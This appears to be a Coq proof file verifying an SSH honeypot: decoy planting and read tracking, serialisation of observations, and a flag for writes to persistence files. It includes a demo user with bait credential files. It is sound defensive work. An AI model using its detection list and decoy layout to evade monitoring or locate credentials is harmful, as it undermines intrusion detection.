  intros Ho. unfold _deserialize_observed. rewrite lookup_merge. unfold _serialize_observed.
  rewrite lookup_fmap. unfold diag_None.
  destruct (_fresh_observed !! k) as [t|] eqn:E.
  - destruct (Ho k t E) as (v & -> & Hv). rewrite bool_decide_eq_true_2 by (by eexists).
    cbn. by rewrite revive_freeze.
  - rewrite bool_decide_eq_false_2 by (by intros [? ?]). by destruct (o !! k).
Qed.

(** observations survive a reconnect.  Serialising the observations and reading
    them back gives, for every key of the template, the value it had (sets as sets),
    and nothing else: a key the template lacks is dropped. *)
Theorem observed_round_trip o k :
  obs_wf o →
  _deserialize_observed (_serialize_observed o) !! k
  = if bool_decide (is_Some (_fresh_observed !! k)) then o !! k else None.
Proof. apply observed_lookup. Qed.


Lemma obs_set_insert_ne k k' v o : k' ≠ k → obs_set k (<[k' := v]> o) = obs_set k o.
Proof. intros H. unfold obs_set. by rewrite lookup_insert_ne. Qed.

Lemma obs_set_add_eq k xs o : obs_set k (add_all k xs o) = xs ∪ obs_set k o.
Proof. unfold add_all. unfold obs_set at 1. by rewrite lookup_insert_eq. Qed.

Lemma obs_set_on k b f s :
  (∀ o, obs_set k (f o) = obs_set k o) →
  obs_set k (observed (on_observed b f s)) = obs_set k (observed s).
Proof. intros H. destruct b; [apply H | done]. Qed.

(** Observing a read of a planted decoy records it as swallowed. *)
Lemma observe_read_swallows path s :
  let canon := _canon path (Some (cwd s)) (Some (home (persona s))) in
  canon ∈ obs_set "decoys_planted"%py (observed s) →
  canon ∈ obs_set "decoys_swallowed"%py (observed (observe_vfs_event EvRead path s)).
Proof.
  cbv zeta. intros Hin. unfold observe_vfs_event. cbv zeta.
  rewrite bool_decide_eq_true_2.
  - cbn [on_observed observed with_observed update_mutable]. unfold add_one.
    rewrite obs_set_add_eq. set_solver.
  - rewrite !obs_set_on; [done|..]; intros o; apply obs_set_insert_ne; key_ne.
Qed.

(** a planted decoy is read with the bait exactly when the trap is armed, and the
    read is recorded.  Right after [plant_decoy], a read of the decoy under any
    spelling returns the clean body through [maybe_inject_trap] with the detector's
    state at that moment, unless the attacker had already tampered with the path, and
    observing that read adds the path to the swallowed decoys. *)
Theorem decoy_read_back t path content cred kind s ca path' :
  let canon := _canon path None (Some (home (persona s))) in
  path ≠ [] → no_backslash path → no_backslash (home (persona s)) →
  canon ∉ _tampered (session_vfs s) →
  _canon path' (Some (cwd s)) (Some (home (persona s))) = canon →
  let s1 := plant_decoy path content cred kind s in
  let s2 := with_counter_ai (ca, observed s1) s1 in
  (vfs_read t path' (Some (cwd s)) (Some (home (persona s))) s2).1
    = Some (maybe_inject_trap ca content kind) ∧
  canon ∈ obs_set "decoys_swallowed"%py (observed (observe_vfs_event EvRead path' s2)).
Proof.
  intros canon Hne Hb Hh Ht Hp'. cbv zeta.
  assert (no_backslash (str_or (Some (home (persona s))) [])) as Hh'.
  { unfold str_or. destruct (home (persona s)); [|done]. unfold no_backslash. set_solver. }
  destruct (canon_abs path None (Some (home (persona s)))) as [Ha Hnb]; try done.
  { exists 1, []. split; [by left|]. split; [constructor | done]. }
  { unfold no_backslash. set_solver. }
  fold canon in Ha, Hnb.
  assert (_canon canon None None = canon) as Hcc by by apply canon_id.
  split.
  - unfold vfs_read, read, plant_decoy. fold canon. rewrite Hp'.
    cbn [session_vfs with_counter_ai with_vfs with_observed with_honeytokens update_mutable].
    destruct cred; cbn [session_vfs with_vfs with_observed with_honeytokens update_mutable fst];
      cbn [_deleted _dynamic _tampered write register_dynamic]; rewrite Hcc;
      (rewrite decide_False by set_solver); rewrite lookup_insert_eq;
      (rewrite decide_False by done); done.
  - set (s2 := with_counter_ai _ _).
    assert (cwd s2 = cwd s ∧ home (persona s2) = home (persona s) ∧
            observed s2 = add_one "decoys_planted"%py canon (observed s)) as (Ec & Ep & Eo).
    { unfold s2, plant_decoy. by destruct cred. }
    pose proof (observe_read_swallows path' s2) as Hr. cbv zeta in Hr.
    rewrite Ec, Ep, Hp' in Hr. apply Hr. rewrite Eo. unfold add_one. rewrite obs_set_add_eq.
    apply elem_of_union. left. by apply elem_of_singleton.
Qed.

(** A canonical path never ends with a multi-character suffix that ends in a slash. *)
Lemma no_dir_suffix p suf : abs_path p → 2 < length suf → endswith (suf : str) [SLASH] = true →
  endswith p suf = false.
Proof.
  intros Ha Hl Hs. destruct (endswith p suf) eqn:E; [|done].
  apply endswith_spec in E as [k ->]. apply endswith_spec in Hs as [j ->].
  assert (endswith (k ++ j ++ [SLASH]) [SLASH] = true) as He.
  { apply endswith_spec. exists (k ++ j). by rewrite app_assoc. }
  destruct (abs_path_no_trailing _ Ha He) as [F|F]; apply (f_equal length) in F;
    rewrite !length_app in F; rewrite length_app in Hl; cbn [length] in *; lia.
Qed.

Lemma obs_true_insert_ne k k' v o : k' ≠ k → obs_true k (<[k' := v]> o) = obs_true k o.
Proof. intros H. unfold obs_true. by rewrite lookup_insert_ne. Qed.

Lemma obs_true_on k b f s :
  (∀ o, obs_true k (f o) = obs_true k o) →
  obs_true k (observed (on_observed b f s)) = obs_true k (observed s).
Proof. intros H. destruct b; [apply H | done]. Qed.

(** what counts as a persistence write.  A write (through any spelling of the path)
    raises the persistence flag exactly when the canonical path is one of the seven
    persistence files of the list: the two directories of the list, /etc/cron.d/ and
    /etc/sudoers.d/, can never match, because a canonical path has no trailing slash. *)
Theorem persistence_flag path s :
  let canon := _canon path (Some (cwd s)) (Some (home (persona s))) in
  path ≠ [] → abs_path (cwd s) →
  no_backslash path → no_backslash (cwd s) → no_backslash (home (persona s)) →
  obs_true "ssh_persistence_attempt"%py (observed (observe_vfs_event EvWrite path s))
  = obs_true "ssh_persistence_attempt"%py (observed s)
    || existsb (endswith canon) (take 7 _PERSISTENCE_SUFFIXES).
Proof.
  cbv zeta. intros Hne Ha Hb Hc Hh.
  destruct (canon_abs path (Some (cwd s)) (Some (home (persona s)))) as [Hcan _]; try done.
  { unfold abs_opt, str_or. by destruct (cwd s); [apply abs_path_nonempty in Ha|]. }
  { unfold str_or. by destruct (cwd s). }
  { unfold str_or. by destruct (home (persona s)). }
  unfold observe_vfs_event. cbv zeta. set (canon := _canon _ _ _) in *.
  rewrite !obs_true_on by (intros o; apply obs_true_insert_ne; key_ne).
  assert (existsb (endswith canon) _PERSISTENCE_SUFFIXES
          = existsb (endswith canon) (take 7 _PERSISTENCE_SUFFIXES)) as ->.
  { rewrite <- (take_drop 7 _PERSISTENCE_SUFFIXES) at 1. rewrite existsb_app.
    cbn [drop _PERSISTENCE_SUFFIXES existsb].
    rewrite !no_dir_suffix by (done || (cbn; lia)). apply orb_false_r. }
  destruct (existsb _ _); cbn [on_observed].
  - rewrite orb_true_r. cbn [observed with_observed update_mutable]. unfold mark, obs_true.
    by rewrite lookup_insert_eq.
  - by rewrite orb_false_r.
Qed.

(** ** A concrete session *)

Definition jdoe : Persona :=
  mk_persona "jdoe" "John Doe" "Senior Software Engineer" "Platform Engineering" "corp-app01"
    "/home/jdoe" "/bin/bash" "" "" "uid=1001(jdoe) gid=1001(jdoe)" ["jdoe"; "sudo"]%py
    [".bashrc"; ".ssh"; "projects"]%py [] "" None.

Definition t0 : moment := mk_moment f1 [].

Definition demo : Session :=
  match connect (G := unit) "c1"%py "e1"%py "jdoe"%py "10.0.0.9"%py jdoe f0 (Some [jdoe]) None None with
  | Ok s => s
  | Raise _ => mk_session [] [] [] jdoe f0 None None [] [] f0 0 false [] _fresh_observed ∅ empty_vfs None [] []
  end.

Lemma demo_connect : connect (G := unit) "c1"%py "e1"%py "jdoe"%py "10.0.0.9"%py jdoe f0 (Some [jdoe]) None None = Ok demo.
Proof.
  assert (Hok : is_ok (connect (G := unit) "c1"%py "e1"%py "jdoe"%py "10.0.0.9"%py jdoe f0 (Some [jdoe]) None None) = true)
    by (vm_compute; reflexivity).
  unfold demo. destruct (connect _ _ _ _ _ _ _ _ _); [reflexivity | discriminate].
Qed.

Example demo_files :
  sorted_keys (_files (session_vfs demo)) =
  ["/etc/group"; "/etc/hostname"; "/etc/passwd"; "/home/jdoe/.aws/config";
   "/home/jdoe/.aws/credentials"; "/home/jdoe/.bash_history"; "/home/jdoe/.bashrc";
   "/home/jdoe/.git-credentials"; "/home/jdoe/.gitconfig"; "/home/jdoe/.ssh/config";
   "/home/jdoe/.ssh/id_rsa"; "/home/jdoe/.ssh/id_rsa.pub"; "/home/jdoe/projects/.keep"]%py.
Proof. vm_compute. reflexivity. Qed.

Lemma demo_observed : observed demo = _fresh_observed.
Proof. vm_cast_no_check (eq_refl _fresh_observed). Qed.

Lemma demo_wf : obs_wf (observed demo).
Proof. rewrite demo_observed. apply fresh_wf. Qed.

Lemma observed_round_trip_witness :
  _deserialize_observed (_serialize_observed (mark "ran_sudo"%py _fresh_observed)) !! "ran_sudo"%py
  = Some (VBool true).
Proof.
  etransitivity; [apply (observed_round_trip (mark "ran_sudo"%py _fresh_observed) "ran_sudo"%py)|].
  2: vm_compute; reflexivity.
  apply (evolves_mark _ recomputed "ran_sudo"%py _fresh_observed _fresh_observed);
    [vm_compute; reflexivity | done | apply fresh_wf].
Defined.


Lemma decoy_read_back_witness :
  (vfs_read t0 "../../etc/mysql/my.cnf"%py (Some (cwd demo)) (Some (home (persona demo)))
     (with_counter_ai (None, observed (plant_decoy "/etc/mysql/my.cnf"%py "x"%py false "config"%py demo))
        (plant_decoy "/etc/mysql/my.cnf"%py "x"%py false "config"%py demo))).1 = Some "x"%py.
Proof.
  refine (proj1 (decoy_read_back t0 "/etc/mysql/my.cnf"%py "x"%py false "config"%py demo None
    "../../etc/mysql/my.cnf"%py _ _ _ _ _)); [discriminate|..].
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - vm_compute. reflexivity.
Defined.

Lemma persistence_flag_witness :
  obs_true "ssh_persistence_attempt"%py (observed (observe_vfs_event EvWrite "/etc/cron.d/job"%py demo))
  = false.
Proof.
  rewrite (persistence_flag "/etc/cron.d/job"%py demo).
  - vm_compute. reflexivity.
  - discriminate.
  - exists 1, ["home"%py; "jdoe"%py]. split; [by left|]. split; [|reflexivity].
    apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - apply (bool_decide_unpack _). vm_compute. exact I.
Defined.
